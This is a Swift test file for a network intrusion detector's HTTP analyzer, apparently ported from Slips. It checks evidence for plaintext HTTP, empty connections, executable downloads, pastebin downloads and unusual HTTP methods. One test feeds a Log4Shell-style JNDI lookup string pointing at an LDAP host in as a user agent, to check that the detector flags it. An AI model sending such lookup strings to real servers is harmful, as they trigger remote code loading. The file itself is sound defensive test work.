import NetCore
import Records
import Testing
@testable import Detect

private typealias Kit = DetectorsTestKit

/// Slips' HTTP analyzer: HTTP_TRAFFIC, SUSPICIOUS_USER_AGENT, EMPTY_CONNECTIONS, EXECUTABLE_MIME_TYPE,
/// PASTEBIN_DOWNLOAD, WEIRD_HTTP_METHOD.
@Suite("HTTP detections")
struct HTTPDetectionsTests {
    let client = Kit.ip("10.0.0.8")
    let server = Kit.ip("203.0.113.80")

    @Test func everyRequestIsUnencryptedHTTPTraffic() throws {
        let (detector, out) = try Kit.make(HTTPAnalyzerDetector.self)
        try detector.main(Kit.http(uid: 1, client: client, server: server))
        let evidence = try #require(out.evidence.only)
        #expect(evidence.type == .HTTP_TRAFFIC)
        #expect(evidence.description == "Unencrypted HTTP traffic from 10.0.0.8 to 203.0.113.80.")
        #expect(evidence.threatLevel == .info && evidence.confidence == 1)
        #expect(evidence.attacker.direction == .SRC && evidence.attacker.value == "10.0.0.8")
        #expect(evidence.victim?.direction == .DST && evidence.victim?.value == "203.0.113.80")
        #expect(evidence.uids == [FlowUID(1)] && evidence.profile.ip == client)
    }

    @Test func suspiciousUserAgent() throws {
        let (detector, out) = try Kit.make(HTTPAnalyzerDetector.self)
        try detector.main(Kit.http(uid: 1, client: client, server: server) {
            $0.userAgent = "${JNDI:ldap://198.51.100.1/a}"; $0.uri = "/x"
        })
        try detector.main(Kit.http(uid: 2, client: client, server: server))
        let evidence = try #require(out.of(.SUSPICIOUS_USER_AGENT).only)
        #expect(evidence.description == "Suspicious user-agent: ${JNDI:ldap://198.51.100.1/a} while connecting to example.org/x")
        #expect(evidence.threatLevel == .high && evidence.confidence == 1)
        #expect(evidence.attacker.direction == .SRC && evidence.attacker.value == "10.0.0.8" && evidence.victim == nil)
    }

    @Test func fourEmptyRequestsToAConnectivityHost() throws {
        let (detector, out) = try Kit.make(HTTPAnalyzerDetector.self)
        for (uid, host) in [(1, "google.com"), (2, "www.google.com"), (3, "google.com")] {
            try detector.main(Kit.http(uid: UInt64(uid), client: client, server: server) { $0.host = host })
        }
        // Not counted: another path, a body, another host.
        try detector.main(Kit.http(uid: 4, client: client, server: server) { $0.host = "google.com"; $0.uri = "/search" })
        try detector.main(Kit.http(uid: 5, client: client, server: server) { $0.host = "google.com"; $0.requestBodyLength = 3 })
        try detector.main(Kit.http(uid: 6, client: client, server: server) { $0.host = "example.com" })
        #expect(out.of(.EMPTY_CONNECTIONS).isEmpty)
        try detector.main(Kit.http(uid: 7, client: client, server: server) { $0.host = "google.com" })
        let evidence = try #require(out.of(.EMPTY_CONNECTIONS).only)
        #expect(evidence.description == "Multiple empty HTTP connections to google.com")
        #expect(evidence.threatLevel == .medium && evidence.confidence == 1)
        #expect(evidence.attacker.direction == .SRC && evidence.attacker.value == "10.0.0.8")
        #expect(evidence.uids == [1, 2, 3, 7].map(FlowUID.init))
        try detector.main(Kit.http(uid: 8, client: client, server: server) { $0.host = "google.com" })
        #expect(out.of(.EMPTY_CONNECTIONS).count == 1)   // the count started again
    }

    @Test func executableMIMETypeGivesEvidenceForClientAndServer() throws {
        let (detector, out) = try Kit.make(HTTPAnalyzerDetector.self)
        try detector.main(Kit.http(uid: 1, client: client, server: server) { $0.responseMIMETypes = ["text/html"] })
        #expect(out.of(.EXECUTABLE_MIME_TYPE).isEmpty)
        try detector.main(Kit.http(uid: 2, client: client, server: server) { $0.responseMIMETypes = ["application/x-dosexec"] })
        let both = out.of(.EXECUTABLE_MIME_TYPE)
        try #require(both.count == 2)
        #expect(both.allSatisfy {
            $0.description == "Download of an executable with MIME type: ['application/x-dosexec'] by 10.0.0.8 from 203.0.113.80."
                && $0.threatLevel == .low && $0.confidence == 1 && $0.uids == [FlowUID(2)]
        })
        #expect(both[0].attacker.direction == .SRC && both[0].attacker.value == "10.0.0.8" && both[0].profile.ip == client)
        #expect(both[1].attacker.direction == .DST && both[1].attacker.value == "203.0.113.80" && both[1].profile.ip == server)
    }

    @Test func pastebinDownloadAboveThreshold() throws {
        let (detector, out) = try Kit.make(HTTPAnalyzerDetector.self)
        try detector.main(Kit.http(uid: 1, client: client, server: server) { $0.host = "pastebin.com"; $0.responseBodyLength = 700 })
        try detector.main(Kit.http(uid: 2, client: client, server: server) {
            $0.host = "pastebin.com"; $0.responseBodyLength = 5000; $0.method = "POST"
        })
        try detector.main(Kit.http(uid: 3, client: client, server: server) { $0.responseBodyLength = 5000 })
        #expect(out.of(.PASTEBIN_DOWNLOAD).isEmpty)
        try detector.main(Kit.http(uid: 4, client: client, server: server) { $0.host = "pastebin.com"; $0.responseBodyLength = 701 })
        let evidence = try #require(out.of(.PASTEBIN_DOWNLOAD).only)
        #expect(evidence.description == "A downloaded file from pastebin.com. Size: 0.000701 MBs")
        #expect(evidence.threatLevel == .info && evidence.confidence == 1 && evidence.attacker.value == "10.0.0.8")
    }

    @Test func weirdHTTPMethodFromWeirdLog() throws {
        let (detector, out) = try Kit.make(HTTPAnalyzerDetector.self)
        for (name, additional) in [("unknown_HTTP_method", "BREW"), ("bad_TCP_checksum", "")] {
            var weird = WeirdRecord(time: Kit.at(3))
            weird.uid = FlowUID(9)
            weird.id = ConnectionID(originator: client, originatorPort: 42_000, responder: server, responderPort: 80)
            weird.name = name
            weird.additional = additional
            try detector.main(Kit.record(weird))
        }
        let evidence = try #require(out.evidence.only)
        #expect(evidence.type == .WEIRD_HTTP_METHOD)
        #expect(evidence.description == "Weird HTTP method BREW to IP: 203.0.113.80. by Zeek.")
        #expect(evidence.threatLevel == .medium && evidence.confidence == 0.9 && evidence.uids == [FlowUID(9)])
        #expect(evidence.attacker.direction == .SRC && evidence.attacker.value == "10.0.0.8" && evidence.victim?.value == "203.0.113.80")
    }

    @Test func badPastebinThresholdIsASettingsError() {
        #expect(throws: SettingsError.self) {
            try SettingsDecoder.decode(HTTPAnalyzerDetector.Settings.self,
                                       from: .section(["pastebin_download_threshold": .plain("-1")]), path: "http_analyzer")
        }
    }

    func tlsRecord(uid: UInt64, serverName: String) -> ChannelMessage {
        var ssl = SSLRecord(time: Kit.at(2), uid: FlowUID(uid),
                            id: ConnectionID(originator: client, originatorPort: 43_000, responder: server, responderPort: 443))
        ssl.serverName = serverName
        return Kit.record(ssl)
    }

    func tlsFlow(uid: UInt64, serverBytes: UInt64, reason: ConnRecord.Reason = .expired) -> ChannelMessage {
        Kit.message(Kit.flow(uid: uid, src: client, sport: 43_000, dst: server, dport: 443, state: .SF, start: 2,
                             origPackets: 5, respPackets: 5, origBytes: 300, respBytes: serverBytes, reason: reason))
    }

    @Test func pastebinOverTLSBySNIAtTheThreshold() throws {
        let (detector, out) = try Kit.make(PastebinTLSDownloadDetector.self)
        try detector.main(tlsRecord(uid: 1, serverName: "pastebin.com"))
        try detector.main(tlsFlow(uid: 1, serverBytes: 699))                       // just below
        try detector.main(tlsRecord(uid: 2, serverName: "example.org"))
        try detector.main(tlsFlow(uid: 2, serverBytes: 90_000))                    // not pastebin
        try detector.main(tlsRecord(uid: 3, serverName: "pastebin.com"))
        try detector.main(tlsFlow(uid: 3, serverBytes: 700, reason: .interim))     // not final yet
        #expect(out.evidence.isEmpty)
        try detector.main(tlsFlow(uid: 3, serverBytes: 700))                       // at the threshold
        try detector.main(tlsFlow(uid: 4, serverBytes: 2_000_000))                 // flow first ...
        try detector.main(tlsRecord(uid: 4, serverName: "pastebin.com"))          // ... then its TLS record
        #expect(out.evidence.map(\.uids) == [[FlowUID(3)], [FlowUID(4)]])
        #expect(out.evidence.map(\.description) == ["A downloaded file from pastebin.com. size: 0.0007 MBs",
                                                     "A downloaded file from pastebin.com. size: 2.0 MBs"])
        #expect(out.evidence.allSatisfy {
            $0.type == .PASTEBIN_DOWNLOAD && $0.threatLevel == .info && $0.confidence == 1
                && $0.attacker.direction == .SRC && $0.attacker.value == "10.0.0.8" && $0.dstPort == 443
        })
    }
}
